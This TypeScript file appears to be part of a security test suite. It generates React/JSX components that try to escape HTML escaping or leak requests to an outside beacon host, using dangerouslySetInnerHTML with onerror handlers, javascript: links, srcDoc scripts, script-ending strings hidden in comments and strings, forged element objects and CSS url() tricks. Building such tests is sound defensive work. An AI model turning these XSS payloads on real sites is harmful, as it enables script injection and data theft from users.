// Attacks specific to jsx: React's ways around escaping, and source text with a hidden meaning.
import { component, family } from "./payload.ts";

const shown = (body: (at: { hit: string; strike: string }) => string, options = {}) =>
  component(({ hit, strike }) => `export default () => ${body({ hit: hit(), strike })};\n`, options);
const pressed = { pressed: true } as const;
const json = JSON.stringify;
const refused = { allows: ["refusal"] } as const;

export const components = family("components", {
  "inner-html-image": shown(({ hit }) => `<div dangerouslySetInnerHTML={{ __html: "<img src='${hit}'>" }} />`),
  "inner-html-handler": shown(
    ({ strike }) => `<div dangerouslySetInnerHTML={{ __html: ${json(`<img src="data:," onerror="${strike}">`)} }} />`,
  ),
  image: shown(({ hit }) => `<img src="${hit}" alt="" />`),
  "image-priority": shown(
    ({ hit }) => `<img src="${hit}" fetchPriority="high" crossOrigin="use-credentials" alt="" />`,
  ),
  "link-script": shown(({ strike }) => `<a data-click href={${json(`javascript:${strike}`)}}>Read on</a>`, {
    ...pressed,
    unproven: "React writes no script address",
  }),
  "link-script-element": component(
    ({ strike }) => `import { useEffect, useRef } from "react";
export default function Payload() { const at = useRef(null); useEffect(() => { at.current.setAttribute("href", ${json(`javascript:${strike}`)}); }, []); return <a ref={at} data-click href="#x">Read on</a>; }`,
    pressed,
  ),
  "frame-document": shown(({ strike }) => `<iframe srcDoc={${json(`<script>${strike}</script>`)}} />`),
  "frame-outside": shown(({ hit }) => `<iframe src="${hit}" />`),
  "object-outside": shown(({ hit }) => `<object data="${hit}" />`),
  "script-element": shown(({ hit }) => `<script async src="${hit}" />`),
  "style-element": shown(
    ({ hit }) => `<style href="x" precedence="high">{${json(`body{background:url(${hit})}`)}}</style>`,
  ),
  "stylesheet-hoisted": shown(({ hit }) => `<link rel="stylesheet" href="${hit}" precedence="high" />`),
  "meta-hoisted": shown(({ hit }) => `<><meta httpEquiv="refresh" content="0;url=${hit}" /><p>x</p></>`),
  "preload-hoisted": component(
    ({ hit }) => `import { preload, preinit, prefetchDNS, preconnect } from "react-dom";
export default function Payload() { preload("${hit()}", { as: "image" }); preinit("${hit("script")}", { as: "script" }); prefetchDNS("${new URL(hit()).origin}"); preconnect("${new URL(hit()).origin}"); return <p>x</p>; }`,
  ),
  "style-object": shown(({ hit }) => `<p style={{ background: "url(${hit})" }}>x</p>`),
  "spread-props": shown(
    ({ hit }) => `<div {...JSON.parse('{"dangerouslySetInnerHTML":{"__html":"<img src=${hit}>"}}')} />`,
  ),
  "form-action-function": shown(
    ({ hit }) => `<form action={() => { location.href = "${hit}"; }}><button data-click>Send</button></form>`,
    pressed,
  ),
  "form-action": shown(({ hit }) => `<form action="${hit}"><button data-click>Send</button></form>`, pressed),
  "top-level-code": component(({ strike }) => `${strike};\nexport default () => <p>x</p>;\n`),
  "render-code": component(({ strike }) => `export default () => { ${strike}; return <p>x</p>; };\n`),
  "string-ends-script": component(
    ({ strike }) =>
      `const text = "</script><script>${strike}</script>";\nexport default () => <div ref={(at) => at?.append(document.createRange().createContextualFragment(text))}>x</div>;\n`,
  ),
  "comment-ends-script": component(
    ({ strike, hit }) =>
      `/*! </script><script>${strike}</script> */\n// <!--<script>\nexport default () => <img src="${hit()}" />;\n`,
  ),
  "template-ends-script": component(
    ({ strike, hit }) =>
      'const text = `</script><img src=data:, onerror="' +
      strike +
      '">`;\nexport default () => <div>{text}<img src="' +
      hit() +
      '" /></div>;\n',
  ),
  "regexp-ends-script": component(
    ({ hit }) =>
      `const at = /<\\/script><script>/;\nexport default () => <img src={"${hit()}" + (at.test("x") ? 1 : 2)} />;\n`,
  ),
  "source-map-comment": component(
    ({ hit }) =>
      `export default () => <img src="${hit()}" />;\n//# sourceMappingURL=${hit("map")}\n//# sourceURL=${hit("source")}\n`,
  ),
  "jsx-pragma": component(
    ({ hit }) =>
      `/** @jsxImportSource ${hit()} */\n/** @jsxRuntime automatic */\nexport default () => <img src="${hit("shown")}" />;\n`,
    refused,
  ),
  "class-arbitrary-url": shown(
    ({ hit }) => `<p className="bg-[url('${hit}')] p-2" style={{ background: "url(${hit})" }}>x</p>`,
  ),
  "class-arbitrary-property": shown(
    ({ hit }) =>
      `<p className="[background:url(${hit})] [mask:url(${hit})] content-['x']" style={{ backgroundImage: "url(${hit})" }}>x</p>`,
  ),
  "class-ends-style": shown(
    ({ hit }) =>
      `<p className="before:content-['</style><img/src=${hit}>'] [&_x]:[a:</style><script>1</script>]">x<img src="${hit}" /></p>`,
  ),
  "class-import": shown(
    ({ hit }) =>
      `<p className="[@import_url(${hit})] [@media_x{}]:p-1 bg-[url(${hit})]"><i style={{ listStyleImage: "url(${hit})", display: "list-item" }} /></p>`,
  ),
  "import-meta": component(
    ({ hit }) => `const at = import.meta.url;\nexport default () => <img src={"${hit()}?" + at} />;\n`,
    refused,
  ),
  "prototype-of-element": component(
    ({ strike }) =>
      `const made = { $$typeof: Symbol.for("react.transitional.element"), type: "div", key: null, ref: null, props: { dangerouslySetInnerHTML: { __html: ${json(`<img src="data:," onerror="${strike}">`)} } }, _store: {} };\nexport default () => made;\n`,
  ),
  "error-with-html": component(
    ({ hit }) =>
      `export default function Payload() { document.body.append(document.createRange().createContextualFragment("<img src='${hit()}'>")); throw new Error("<img src='${hit("error")}'>"); }\n`,
  ),
  "thrown-object": component(
    ({ hit }) =>
      `export default function Payload() { new Image().src = "${hit()}"; throw { get message() { return "<img src='${hit("error")}'>"; }, toString() { new Image().src = "${hit("shown")}"; return "x"; } }; }\n`,
  ),
  "portal-outside": component(
    ({ hit }) =>
      `import { createPortal } from "react-dom";\nexport default () => createPortal(<img src="${hit()}" />, document.documentElement);\n`,
  ),
});
